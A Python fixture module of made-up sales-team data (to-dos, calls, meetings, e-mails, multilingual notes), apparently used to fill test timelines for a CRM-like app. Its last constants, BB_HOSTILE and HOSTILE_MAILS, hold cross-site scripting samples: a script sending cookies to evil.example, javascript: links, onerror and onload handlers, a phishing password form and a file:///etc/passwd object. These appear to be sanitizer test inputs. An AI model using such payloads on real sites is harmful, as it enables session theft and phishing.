# ruff: noqa: E501 - one text, one line
"""What a sales team writes: subjects and notes with places for the person, company, product and town.

Timelines draw from these in turn and never the same twice, so neither a deal nor a morning repeats itself.
"""

TODOS = (
    ("Call {person} about the revised offer", "{person} wants the {product} split into two deliveries. Ask which one comes first and who signs."),
    ("Send {company} the signed framework contract", "Legal returned it with one remark on page 7. Ours is countersigned, scan is on the drive."),
    ("Check when {product} can be delivered", "They asked for a fixed delivery week. The supplier confirms on Thursdays only."),
    ("Prepare the demo for {company}", "Use their own data: the export {person} sent last week. Leave out the reporting part, they have that already."),
    ("Ask {person} for the purchase order number", "Accounting can't invoice without it. Second reminder."),
    ("Follow up: silence since the price talk", "Three weeks without an answer. Don't lower the price again before we know who else is bidding."),
    ("Update the forecast for {title}", "Probability is still at 40 %, which is too low after yesterday's visit."),
    ("Book a technician for {city}", "Half a day is enough. {person} can open the building from 7:30."),
    ("Write down what we promised on the phone", "Free shipping, two spare units, and training in the local language."),
    ("Get a reference customer near {city}", "{person} would like to see it running somewhere before the board meets."),
    ("Compare the tender text with our offer", "Item 14 asks for a response time of four hours. We offered eight."),
    ("Thank {person} for the introduction", "A short handwritten card, not an e-mail."),
    ("Clarify the payment terms", "They wrote 60 days, the contract says 30. {person} thinks it is a mistake in the template."),
    ("Invite {company} to the users' day", "Two seats are reserved. Vegetarian lunch for one of them."),
    ("Check the delivery address", "There are two gates; trucks over 3.5 t use the one at the back."),
    ("Plan the go-live weekend", "Not the last weekend of the month: stocktaking."),
    ("Ask support about the open ticket", "{person} mentioned it twice. It has been open for eleven days and makes the renewal harder."),
    ("Renew the licence keys before they lapse", "The old keys stop on the last day of the month at midnight, portal time."),
    ("Make an offer for ten more units", "Same conditions as the first order; the price list changed on the first."),
    ("Find out who decides at {company}", "{person} prepares the decision but doesn't take it. Someone called “the committee” does."),
    ("Send photos of a finished installation", "Before and after, and the cabling. They worry about the look of it."),
    ("Correct the VAT number on the quote", "Two digits are swapped. Nothing else changes, keep the quote number."),
    ("Talk to {person} about training dates", "Mornings only, never on Mondays. Groups of eight at most."),
    ("Collect feedback after the first week", "What slows them down? What did they stop using? Be honest in the notes."),
    ("Order the adapters that are missing", "Twelve pieces, type B. They were on the list and not in the box."),
    ("Answer the security questionnaire", "86 questions. Most of the answers are in last year's file; hosting and backup have changed."),
    ("Ask for a logo we may show", "{person} said yes in the meeting; marketing wants it in writing."),
    ("Check whether the budget survived", "New financial year, new controller. Ask about {product} before we plan people."),
    ("Bring samples to {city}", "The grey ones. The black ones show every fingerprint."),
    ("Escalate the late delivery", "Promised for the 3rd, moved twice. {person} is patient, the warehouse isn't."),
    ("Propose a call with our engineers", "Thirty minutes, cameras off, shared screen. They want to see the interface, not slides."),
    ("Read their annual report", "Pages 12–20: they are opening sites in the south. Could be a second project."),
    ("Confirm the hotel for the visit", "Two nights near {city} station. {person} picks us up at nine."),
    ("Close the old offer", "It ran out last week; the new one replaces it. Tell {person}, so that nobody orders from the wrong one."),
    ("Congratulate {person} on the new job", "Moves up in January. The successor should hear from us before Christmas."),
    ("Check the discount with Elena", "Above 12 % it needs a signature."),
    ("Draft the service level agreement", "Start from the short template. Their lawyers dislike anything longer than four pages."),
    ("Remind {company} of the prepayment", "Friendly. They always pay, just never on time."),
    ("Move the installation in {city} by a week", "The electricians are late. {person} agreed, the landlord doesn't know yet."),
    ("Read through {person}'s list of wishes", "Nineteen points. Mark what we have, what we can build, and what nobody needs."),
    ("Get the acceptance protocol signed", "Without it the warranty doesn't begin. The blank is in the folder."),
    ("Prepare three questions for the workshop", "What annoys you every day? Who asks you for numbers? What do you still keep on paper?"),
    ("Make a one-page summary for {person}", "Two figures, one picture, no adjectives."),
    ("Ask legal about clause 9", "Liability is capped at the yearly fee; they want twice that."),
    ("Set {company} up in the partner portal", "Price group B, invoices by e-mail, two people may order."),
    ("Cancel the loan units", "They came back complete on Monday, one charger is a different one."),
    ("Find a date for the retrospective", "Everybody who was there on the go-live weekend. An hour, with cake."),
    ("Tell {person} about the new price list", "Before the newsletter does. The old prices hold until the end of the month."),
    ("Write the proposal for phase two", "Phase one was {product}. Phase two is what {person} drew on the napkin."),
    ("Look for a cheaper way to ship to {city}", "The last invoice of the forwarder was higher than our margin."),
    ("Put {person} in touch with support", "A direct line for the first month, afterwards the usual way."),
    ("Review the access list of {company}", "Three of the names have left. Ask before removing anybody."),
    ("Answer the question about exports", "Yes to spreadsheets, no to their old accounting format, unless they pay for it."),
    ("Plan the anniversary visit", "Five years a customer in spring. Flowers, and Tomasz comes along."),
    ("Check what became of the complaint", "Two units were exchanged. Did anyone say sorry?"),
    ("Line up the pilot users", "Eight people: two who love it, two who hate it, four who haven't noticed."),
    ("Collect the keys in {city}", "Reception has them in an envelope with our name, ID needed."),
    ("Compare the last three quotes to {company}", "The discount grew each time. Find out why before {person} asks."),
    ("Arrange an interpreter for the visit", "Half a day, technical. {person} speaks English, the shift leaders don't."),
    ("Measure the counter at {company}", "The stand needs 42 cm. The drawing says 40."),
    ("Decide: keep or drop the extra warranty", "It costs us more than it brings, but {person} mentioned it first."),
    ("Have the brochure printed", "Forty copies, the version with the new address."),
)  # fmt: skip

PLANNED_CALLS = (
    ("Call {person}: which day suits the delivery?", "Tuesday or Thursday. The driver needs a name and a mobile number."),
    ("Call {company} about the open invoice", "Due since the 5th. Be kind, the new accountant started last week."),
    ("Ring {person} before noon", "Wants to hear about {product} from us and not from the reseller."),
    ("Call back: question about the warranty", "Three years on the devices, one on the batteries. The certificate is in the folder."),
    ("Call {person} after the board meeting", "It ends at about four. If it went badly, just listen."),
    ("Phone the forwarder for {company}", "Number 4471. Ask for the depot in {city}, not for the hotline."),
    ("Short call: confirm Thursday", "Who comes, which room, is there a screen?"),
    ("Call the references that {company} named", "Two of the three are customers of ours anyway."),
    ("Ask {person} how the first week went", "Have the ticket list at hand."),
    ("Call procurement at {company}", "{person} is the right one; the switchboard closes at 16:00."),
    ("Call {person}: shall we extend the trial?", "It ends on Friday. Seven of ten people logged in this week."),
    ("Discuss the split invoice by phone", "Half now, half after the acceptance test. {person} has to agree in writing afterwards."),
)  # fmt: skip

CALLS = (
    ("Outgoing call to {person}", "Reached the voicemail twice, then a short talk: they decide after the holidays."),
    ("Call with {person}: open points", "Four of six points are closed. Left: delivery week and the extra warranty."),
    ("Incoming call from {company}", "{person} asked what {product} would cost in monthly instalments. Promised numbers by tomorrow."),
    ("Price talk with {person}", "They have an offer that is 9 % lower without installation. We stay at ours and add the spare unit."),
    ("Quick call about the invoice", "The cost centre was missing. Sent again while on the phone."),
    ("Check-in call after delivery", "Everything arrived, one box was dented, the content is fine."),
    ("Call: who takes part in the demo", "Five people, two of them from the works council. Send an agenda that has something for them."),
    ("Missed call from {person}", "No message. Try again in the afternoon, mornings are full."),
    ("Conference call with {company} and support", "The error came from an old driver. Closed, {person} is relieved."),
    ("Call {person} before the board meeting", "She needs three sentences on the savings, not a brochure."),
    ("Second call about the contract text", "Clause 8 stays, clause 9 becomes mutual. Lawyers get the new version today."),
    ("Cold call to a new site in {city}", "Friendly, no need this year, ask again in spring."),
    ("Callback: question on data protection", "Told them where the servers are and sent the certificate."),
    ("Call about an upgrade", "They use the old release because of one report. Offer to rebuild it."),
)  # fmt: skip

MEETINGS = (
    ("Kick-off in {city}", "Room 2.14, coffee is theirs, projector is ours. Names on the table cards, please."),
    ("Contract review with {person}", "Bring two printed copies. They read every page aloud."),
    ("Site visit: {company}", "Safety shoes! Register at the gate with an ID card, 20 minutes early."),
    ("Lunch with {person}", "No slides. Talk about the second site and about who leaves in June."),
    ("Workshop: how {company} works today", "Two hours, sticky notes, one person from every team. Draw the way of an order from door to door."),
    ("Presentation to the board", "Twelve minutes and three questions. {person} introduces us."),
    ("Online demo of {product}", "Record it; two people can't come."),
    ("Quarterly review", "Figures first: uptime, tickets, what was used. Then the wish list."),
    ("Handover to the installation team", "{person} shows the rooms. Cable plan and keys change hands."),
    ("Negotiation, second round", "Our limit is 8 %. Above that only with a three-year term."),
)  # fmt: skip

PLACES = (
    "Their office, {city}",
    "Our showroom",
    "Café by the station, {city}",
    "Gate 2, {city}",
    "Second floor, {city}",
)
ONLINE = "Online"

EMAILS_OUT = (
    ("Offer: {product}", "<p>Dear {person},</p><p>thank you for your time yesterday. As promised you will find our offer for <b>{product}</b> attached. It is valid for thirty days and includes delivery to {city}.</p><p>Kind regards</p>"),
    ("Minutes of our meeting", "<p>Hello {person},</p><p>here is what we agreed on:</p><ul><li>delivery in two steps</li><li>training on site, eight people per group</li><li>one contact on each side</li></ul><p>Please tell me if anything is missing.</p>"),
    ("Re: question about delivery", "<p>Dear {person},</p><p>the first part leaves our warehouse on Monday and reaches {city} two working days later. You will get the tracking number as soon as the forwarder has it.</p>"),
    ("Contract for signature", "<p>Dear {person},</p><p>both versions are attached; the changes to clause 9 are marked in <span style=\"color:#b00\">red</span>. A scan is enough for us to start.</p>"),
    ("Training dates", "<table border=\"1\"><tr><th>Group</th><th>Date</th></tr><tr><td>Morning</td><td>Tuesday</td></tr><tr><td>Late shift</td><td>Thursday</td></tr></table><p>Would that suit you, {person}?</p>"),
    ("Reference visit", "<p>Good morning {person},</p><p>our customer would be glad to show you round. Two dates are possible; the second one has the better train.</p>"),
    ("Sorry for the delay", "<p>Dear {person},</p><p>I should have written on Friday. The supplier moved the date by a week; we send two loan units meanwhile, free of charge.</p>"),
)  # fmt: skip

EMAILS_IN = (
    ("Re: Offer: {product}", "<p>Hi,</p><p>thanks, looks good. Two questions from our side: is the dock included, and can we pay in two parts?</p><blockquote>As promised you will find our offer attached.</blockquote><p>{person}</p>"),
    ("Purchase order attached", "<p>Please find our order attached. <b>Delivery no later than the end of next month.</b></p><p>{person}<br>{company}</p>"),
    ("Change of contact", "<p>I am leaving {company} at the end of the month. My colleague will take over, please put both of us in copy until then.</p><p>{person}</p>"),
    ("Fwd: security questionnaire", "<p>Could you fill this in by Wednesday? Our auditors insist.</p><p>{person}</p>"),
    ("Problem with two units", "<p>Two of the devices don't start. Serial numbers end in 4471 and 4480. Photos attached.</p><p>{person}</p>"),
    ("Invitation to tender", "<p>Dear bidders,</p><p>the documents for {product} are online. Questions until Friday noon, in writing only.</p>"),
)  # fmt: skip

TASKS = (
    ("Calculate the offer for {product}", "With and without installation. Margin not below 18 %."),
    ("Draw the floor plan for {city}", "Scale 1:100, the PDF from the landlord is in the folder."),
    ("Translate the manual", "Only chapters 1–3, the rest stays in English."),
    ("Set up the test account for {company}", "Twenty users, demo data of last autumn, expires after 30 days."),
    ("Check the credit rating of {company}", "The last report is two years old."),
    ("Prepare the hand-over protocol", "One page, two signatures, a line for remarks."),
    ("Write the case study", "Draft by Friday; {person} reads it before anyone else does."),
)  # fmt: skip

RUSSIAN_TODOS = (
    ("Согласовать спецификацию с {person}", "Просят добавить печать этикеток и убрать второй терминал."),
    ("Отправить акт сверки", "Бухгалтерия ждёт до пятницы, иначе платёж уйдёт в следующий месяц."),
    ("Уточнить сроки поставки", "Если позже 20-го — нужен письменный перенос."),
    ("Подготовить презентацию для совета директоров", "Не больше десяти слайдов, крупный шрифт."),
)
GREEK_TODOS = (
    ("Τηλεφώνημα με {person} για την προσφορά", "Ζητούν έκπτωση για δύο ακόμη πλοία."),
    ("Αποστολή δειγμάτων στον Πειραιά", "Μόνο τα γκρι, με ελληνικές ετικέτες."),
    ("Επιβεβαίωση ημερομηνίας εγκατάστασης", "Το πλοίο μένει στο λιμάνι τρεις ημέρες."),
)
CHINESE_TODOS = (
    ("与{person}确认交货时间", "客户希望分两批交货，第一批不晚于月底。"),
    ("发送报价单（含税）", "请使用新的价格表，并附上安装说明。"),
    ("安排上海现场培训", "每组八人，上午进行。"),
)
ARABIC_TODOS = (
    ("الاتصال مع {person} بخصوص العرض", "يريدون تقسيم الدفعة على ثلاثة أشهر."),
    ("إرسال العقد للتوقيع", "النسخة العربية هي المعتمدة، مع ترجمة إنجليزية (PDF)."),
    ("تأكيد موعد التركيب في دبي", "الدخول من البوابة 4 بعد الساعة 10:00."),
)
HEBREW_TODOS = (
    ("לדבר עם {person} על לוח הזמנים", "מבקשים להקדים את ההתקנה בשבוע."),
    ("לשלוח הצעת מחיר מעודכנת", "כולל 12 קוראי כרטיסים (דגם B-200) ואחריות לשלוש שנים."),
    ("לתאם הדרכה במשרדים בחיפה", "שתי קבוצות, בבוקר ואחרי הצהריים."),
)
LOCAL_TODOS = {8: RUSSIAN_TODOS, 9: GREEK_TODOS, 10: CHINESE_TODOS, 11: ARABIC_TODOS, 12: HEBREW_TODOS}

LONG_NOTE = "\n\n".join(  # noqa: FLY002 - paragraphs
    (
        "Notes from the two-day workshop. I write them all down once, because everybody remembers it differently.",
        (
            "Day one. We began an hour late: the projector in the big room only takes cables that nobody has carried since 2015. "
            "Andrew opened with the numbers of the last quarter. Returns are down by a third, which he puts down to the new "
            "labels and not to us; Grace disagreed politely and has the better spreadsheet. Afterwards each team showed how an "
            "order travels through the house. There are eleven steps on paper and seventeen in real life. Four of the extra six "
            "are people walking to a printer."
        ),
        (
            "What they want from us, in their own order: (1) scanning at the gate, not at the shelf; (2) one list for the late "
            "shift instead of three; (3) a way to see who promised what to whom; (4) fewer e-mails. The third point is the one "
            "with a budget. The fourth got applause."
        ),
        (
            "What they fear: the weekend of the go-live. In 2021 a supplier left them with two half-working systems for nine "
            "days and the warehouse still calls that summer by the supplier's name. We should bring two people more than we "
            "think we need and say so in the offer."
        ),
        (
            "Day two. Prices. I showed the three options without discount and stopped talking. Imran asked about hosting and "
            "backups, Grace about payment terms, Andrew about the name of the project manager. They lean towards option B with "
            "the training of option C. I said that we would look at it and did not say yes. The board meets on the second "
            "Thursday; the paper must be with Grace six working days before, two pages, no pictures."
        ),
        (
            "Small things: visitors need safety shoes beyond the yellow line, lunch is at 11:45 sharp, the coffee machine on the "
            "first floor is the good one. Imran's daughter plays the cello on the 14th; he will not take calls that evening."
        ),
        (
            "Numbers for the offer. Leeds: 24 handhelds, 3 docks, 2 spare units, one day of training for each shift. The second "
            "warehouse: the same again without the docks, but with the long-range readers for the high shelves, because nobody "
            "climbs there any more since the new safety rules. Head office: six seats with reports only. They keep their own "
            "printers. Whatever we calculate, the yearly fee has to stay below forty thousand, else it needs a second signature "
            "from a person who is on leave until the 20th."
        ),
        (
            "Who is who. Andrew decides about the warehouse, Grace about every contract above ten thousand, Imran can stop "
            "anything that touches the network and has done so twice. The works council has one seat, a quiet man called Terry, "
            "who asked the best question of the day: what happens to the people who walk to the printers? I promised an answer "
            "in writing."
        ),
        "My feeling: seventy per cent, if the weekend is planned in detail and the plan has names in it.",
    )
)

BB_NOTE = (
    "[b]Agenda[/b]\n[list]\n[*] Numbers of the [i]pilot[/i]\n[*] Open points, see [url=https://docs.example/plan]the plan[/url]\n"
    "[*] [color=#c21b17]Risk:[/color] delivery week\n[/list]\n[quote]We can live with two days of delay, not with two weeks.[/quote]\n"
    "Prepared by [user=3]Claire Dubois[/user]. [s]Bring the old contract.[/s] [u]Bring the new one.[/u]"
)
BB_HOSTILE = (
    "[b]Offer[/b] as discussed: [url=javascript:alert(document.domain)]open it[/url]\n"
    "[img]https://tracker.example/pixel.gif[/img]\n<b>not bold, the text is BB code</b> [size=300]big[/size] [b]unclosed"
)

HOSTILE_MAILS = (
    (
        "Your invoice is overdue!!!",
        (
            "<p>Dear customer,</p><script>document.location='https://evil.example/?c='+document.cookie</script>"
            "<img src=\"x\" onerror=\"alert('hello')\"><p>please <a href=\"javascript:alert(1)\">confirm your account</a>.</p>"
            "<iframe src=\"https://evil.example/\"></iframe><style>body{display:none}</style>"
        ),
    ),
    (
        "Re: Re: Fwd: pictures of the pallet",
        (
            "<div onclick=\"steal()\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://tracker.example/a.png)\">"
            "<p>See the damage on the <b>left</b> side.</p><a href=\"data:text/html,<script>alert(1)</script>\">photo 1</a> "
            "<a href=\"https://photos.example/pallet/2\">photo 2</a><svg onload=\"alert(1)\"></svg><form action=\"https://evil.example\">"
            "<input name=\"password\"></form></div>"
        ),
    ),
    (
        "Newsletter, badly closed",
        (
            "<html><head><title>x</title></head><body><table><tr><td><p>Prices rise in <i>March<b>!</p></td><td>"
            "&lt;script&gt;this is text&lt;/script&gt; &amp; nothing more<object data=\"file:///etc/passwd\"></object>"
        ),
    ),
)  # fmt: skip
